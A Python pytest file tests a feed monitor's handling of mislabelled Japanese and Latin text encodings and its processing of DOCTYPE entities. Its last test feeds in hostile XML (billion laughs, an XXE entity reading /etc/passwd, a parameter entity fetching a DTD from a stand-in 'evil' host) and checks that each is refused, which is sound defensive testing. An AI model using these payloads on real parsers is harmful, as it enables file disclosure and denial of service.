"""monitor.sources.decode and monitor.sources.xmlprep: encodings declared, missing, wrong or bogus
(RELIABILITY 35, 41), and DOCTYPEs that only declare character entities (issue 8, item 7)."""

from __future__ import annotations

import pytest

from monitor.sources.decode import decode_body, text_codec
from monitor.sources.xmlprep import prepare_entities

JA = "防衛装備移転：日本政府に対する対外有償軍事援助（FMS）について。令和7年4月14日、外務報道官談話"
EN = "A possible Foreign Military Sale to the Government of Japan"


@pytest.mark.parametrize(
    ("body", "http_charset", "declared", "want_text", "want_encoding"),
    [
        pytest.param(JA.encode("cp932"), None, None, JA, "cp932", id="Shift_JIS undeclared"),
        pytest.param(JA.encode("euc_jp"), None, None, JA, "euc_jp", id="EUC-JP undeclared"),
        pytest.param(JA.encode("iso2022_jp"), None, None, JA, "iso2022_jp_ext", id="ISO-2022-JP undeclared"),
        pytest.param(
            JA.encode("cp932"), "utf-8", None, JA, "cp932", id="Shift_JIS with a wrong charset=utf-8"
        ),
        pytest.param(JA.encode("euc_jp"), "utf-8", "utf-8", JA, "euc_jp", id="EUC-JP declared utf-8 twice"),
        pytest.param(
            JA.encode("iso2022_jp"), "utf-8", None, JA, "iso2022_jp_ext", id="ISO-2022-JP labelled utf-8"
        ),
        pytest.param(
            JA.encode("cp932"), "iso-8859-1", None, JA, "cp932", id="Shift_JIS under a latin-1 server default"
        ),
        pytest.param(JA.encode("euc_jp"), None, "EUC-JP", JA, "euc_jp", id="EUC-JP declared"),
        pytest.param(
            "①㈱～".encode("cp932"), "Shift_JIS", None, "①㈱～", "cp932", id="Shift_JIS label read as cp932"
        ),
        pytest.param(JA.encode("utf-8"), None, None, JA, "utf-8", id="UTF-8 undeclared"),
        pytest.param(b"\xef\xbb\xbf" + JA.encode("utf-8"), "shift_jis", None, JA, "utf-8", id="a BOM wins"),
        pytest.param(
            "café crème brûlée".encode("cp1252"),
            "iso-8859-1",
            None,
            "café crème brûlée",
            "cp1252",
            id="real latin-1",
        ),
        pytest.param(EN.encode(), "rot13", None, EN, "utf-8", id="rot13 label ignored"),
        pytest.param(EN.encode(), "zlib", "punycode", EN, "utf-8", id="zlib and punycode labels ignored"),
        pytest.param(EN.encode(), "undefined", "idna", EN, "utf-8", id="undefined and idna labels ignored"),
        pytest.param(
            b"A+2AA-B", "utf-7", None, "A+2AA-B", "utf-8", id="utf-7 label ignored (no lone surrogate)"
        ),
    ],
)
def test_decode(
    body: bytes, http_charset: str | None, declared: str | None, want_text: str, want_encoding: str
) -> None:
    got = decode_body(body, http_charset=http_charset, declared=declared)
    assert (got.text, got.encoding) == (want_text, want_encoding)
    assert "\ufffd" not in got.text


def test_detection_never_reads_a_markup_body_as_utf16() -> None:
    got = decode_body(b"<r>\xff\xfe\x00\x81\xfe\xff\x80</r>", http_charset="utf-8")
    assert got.text.startswith("<r>") and not got.encoding.startswith("utf-16")


@pytest.mark.parametrize(
    ("label", "codec"),
    [
        ("UTF-8", "utf-8"), ("Shift_JIS", "cp932"), ("x-sjis", "cp932"), ("Windows-31J", "cp932"),
        ("EUC-JP", "euc_jp"), ("ISO-2022-JP", "iso2022_jp_ext"), ("latin1", "iso8859-1"),
        ("rot13", None), ("rot_13", None), ("zlib", None), ("base64", None), ("hex", None), ("bz2", None),
        ("punycode", None), ("idna", None), ("undefined", None), ("utf-7", None), ("unicode_escape", None),
        ("no-such-charset", None), ("", None), (None, None),
    ],
)  # fmt: skip
def test_text_codec_accepts_only_text_codecs(label: str | None, codec: str | None) -> None:
    assert text_codec(label) == codec


NBSP_DTD = '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!-- HTML --><!ENTITY copy "&#xA9;">]>'


@pytest.mark.parametrize(
    ("text", "want"),
    [
        pytest.param(
            f"{NBSP_DTD}<rss>A&nbsp;B&copy;</rss>",
            "<rss>A&#160;B&#169;</rss>",
            id="character entities declared",
        ),
        pytest.param(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><rss>&nbsp;&eacute;</rss>',
            "<rss>&#160;&#233;</rss>",
            id="XHTML DOCTYPE with HTML entities",
        ),
        pytest.param(
            "<rss>&amp;&lt;&unknownthing;</rss>",
            "<rss>&amp;&lt;&unknownthing;</rss>",
            id="XML's own and unknown names kept",
        ),
        pytest.param(
            "<rss>a&#0;b&#xD800;c&#99999999999;d&#65;</rss>",
            "<rss>abcd&#65;</rss>",
            id="invalid character references removed",
        ),
        pytest.param(
            "<rss><![CDATA[&nbsp;&#0;]]></rss>", "<rss><![CDATA[&nbsp;&#0;]]></rss>", id="CDATA untouched"
        ),
    ],
)
def test_prepare_entities(text: str, want: str) -> None:
    assert prepare_entities(text) == want


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>', id="billion laughs"
        ),
        pytest.param('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', id="XXE"),
        pytest.param(
            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>', id="parameter entity"
        ),
        pytest.param('<!DOCTYPE r [<!ENTITY a "&#38;#38;">]><r>&a;</r>', id="value that is markup"),
        pytest.param('<!DOCTYPE r [<!ENTITY a "&#160;"><!ELEMENT r ANY>]><r/>', id="other declarations"),
    ],
)
def test_entity_expansion_stays_refused(text: str) -> None:
    with pytest.raises(ValueError, match="DOCTYPE with entity declarations refused"):
        prepare_entities(text)
